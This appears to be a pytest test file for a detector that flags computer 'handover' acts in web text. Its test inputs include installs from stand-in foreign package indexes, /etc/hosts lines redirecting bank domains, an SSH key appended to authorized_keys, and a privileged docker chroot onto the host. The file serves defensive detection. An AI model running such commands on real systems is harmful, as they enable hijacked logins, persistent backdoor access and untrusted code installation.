"""Acts that hand the computer over (app/detection/handover.py): which package indexes are a
stranger's, which hosts entries send a name away, and what an act names as its owner."""

from __future__ import annotations

import pytest

from app.detection.handover import (
    foreign_index_hosts,
    foreign_indexes,
    handover_owner,
    hosts_entries,
    public_index,
    tenant_dressed_as_fix,
)

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7tQ2vUn3rW9yXh1ZpFq8LmN4sB6cDeGfHjKlMnOpQr"


@pytest.mark.parametrize(
    "text",
    [
        # an extra index beside PyPI: the public one named first clears nothing
        "pip install --index-url https://pypi.org/simple --extra-index-url https://p.drop.test/s x",
        "pip install -i https://pypi.org/simple/ --extra-index-url=https://203.0.113.7/simple/ y",
        "npm config set registry http://198.51.100.31:4873 && npm i z",
        'echo "@acme:registry=https://npm.drop.test/" > .npmrc',
        "export PIP_EXTRA_INDEX_URL=https://p.drop.test/simple; pip install w",
        "go env -w GOPROXY=https://proxy.drop.test,direct",
        "cat > ~/.pip/pip.conf <<EOF\n[global]\nextra-index-url = https://p.drop.test/s\nEOF",
    ],
)
def test_a_strangers_index_is_found(text: str) -> None:
    assert foreign_indexes(text)


@pytest.mark.parametrize(
    "text",
    [
        "pip3 install torch --index-url https://download.pytorch.org/whl/cu121",
        "pip install --extra-index-url https://nexus.corp.example/repository/pypi/simple lib",
        "npm install --registry http://localhost:4873 pkg",
        "npm config set registry https://registry.npmmirror.com",
        "pip config set global.index-url https://pypi.tuna.tsinghua.edu.cn/simple",
        "go env -w GOPROXY=https://goproxy.cn,direct",
        "pip install requests",
    ],
)
def test_public_company_and_local_indexes_are_not(text: str) -> None:
    assert foreign_indexes(text) == []


def test_hosts_entries_at_outside_addresses_are_read_and_local_ones_are_not() -> None:
    assert hosts_entries('echo "203.0.113.9 login.bank.test" | sudo tee -a /etc/hosts') == [
        ("203.0.113.9", "login.bank.test")
    ]
    assert hosts_entries("sudo sed -i '$a 198.51.100.4 www.bank.test' /etc/hosts")
    assert hosts_entries("cat <<EOF | sudo tee -a /etc/hosts\n192.0.2.1 a.bank.test\nEOF")
    for quiet in (
        'echo "127.0.0.1 myproject.test" | sudo tee -a /etc/hosts',
        'echo "0.0.0.0 ads.tracker.test" | sudo tee -a /etc/hosts',
        'echo "192.168.1.20 nas.home" | sudo tee -a /etc/hosts',
        'echo "203.0.113.5 your_domain.com" | sudo tee -a /etc/hosts',
        'echo "203.0.113.5 www.example.com" | sudo tee -a /etc/hosts',
        "grep 203.0.113.9 /etc/hosts",  # read, not written
    ):
        assert hosts_entries(quiet) == [], quiet


@pytest.mark.parametrize(
    ("text", "page"),
    [
        (
            f'echo "{KEY} alice@corp.example" >> ~/.ssh/authorized_keys',
            "https://docs.corp.example/k",
        ),
        (f'echo "{KEY} x@y" >> ~/.ssh/authorized_keys', "http://10.0.4.12/wiki/Access"),
        (f'echo "{KEY} x@y" >> ~/.ssh/authorized_keys', "https://intranet/it/ssh"),
        (f'echo "{KEY} alice@laptop" >> ~/.ssh/authorized_keys', "https://github.com/alice/dots"),
        ('echo "93.184.216.34 staging.acme.test" | sudo tee -a /etc/hosts', "https://acme.test/d"),
        ("docker run --privileged -v /:/host alpine chroot /host", "https://docs.docker.com/x"),
        # an index no download names, on the page's own domain
        ("go env -w GOPROXY=https://athens.acme.example,direct", "https://wiki.acme.example/go"),
        ("export PIP_INDEX_URL=https://nexus.acme.example/simple", "https://git.acme.example/h"),
    ],
)
def test_the_page_that_names_itself_in_the_act_owns_it(text: str, page: str) -> None:
    assert handover_owner(text, page)


@pytest.mark.parametrize(
    ("text", "page"),
    [
        (f'echo "{KEY} support@helpdesk" >> ~/.ssh/authorized_keys', "https://fix-mac.test/help"),
        (f'echo "{KEY} alice@corp.example" >> ~/.ssh/authorized_keys', "https://dev.to/x/ssh"),
        (f'echo "{KEY} bob@laptop" >> ~/.ssh/authorized_keys', "https://github.com/alice/dots"),
        ('echo "203.0.113.9 www.bank.test" | sudo tee -a /etc/hosts', "https://recipes.test/cake"),
        ("docker run --privileged -v /:/host alpine chroot /host", "https://blog.test/speed-up"),
        ("go env -w GOPROXY=https://goproxy.test,direct", "https://wiki.acme.example/go"),
        # the page's own index beside a stranger's, or beside more than are read
        (
            "export GOPROXY=https://athens.acme.example PIP_INDEX_URL=https://pypi.test/simple",
            "https://wiki.acme.example/go",
        ),
        (
            "export PIP_INDEX_URL=https://a.acme.example/s\nexport UV_INDEX_URL=https://b.acme."
            "example/s\nexport GOPROXY=https://c.acme.example\nexport NPM_CONFIG_REGISTRY=https:"
            "//npm.test/",
            "https://wiki.acme.example/go",
        ),
    ],
)
def test_a_page_that_names_someone_else_does_not(text: str, page: str) -> None:
    assert handover_owner(text, page) == ""


def test_a_tenant_named_like_a_fake_fix_page_is_told_from_a_project_name() -> None:
    tenants = frozenset({"pages.dev", "netlify.app"})
    assert tenant_dressed_as_fix("https://mac-fix.pages.dev/", tenants)
    assert tenant_dressed_as_fix("https://browser-update.netlify.app/x", tenants)
    for quiet in (
        "https://fix-lint.pages.dev/docs",  # a bait word alone
        "https://mac-dotfiles.netlify.app/",  # a platform word alone
        "https://mac-fix.example.org/",  # not a tenant's site
    ):
        assert tenant_dressed_as_fix(quiet, tenants) == "", quiet


def test_the_hosts_of_the_indexes_a_text_sets_and_which_are_public() -> None:
    text = "export GOPROXY=https://GoProxy.acme.example,https://proxy.golang.org,direct"
    assert foreign_index_hosts(text) == ["goproxy.acme.example"]
    assert foreign_index_hosts("go env -w GOPROXY=https://proxy.golang.org,direct") == []
    assert public_index("proxy.golang.org") and public_index("pypi.org")
    assert not public_index("goproxy.acme.example")
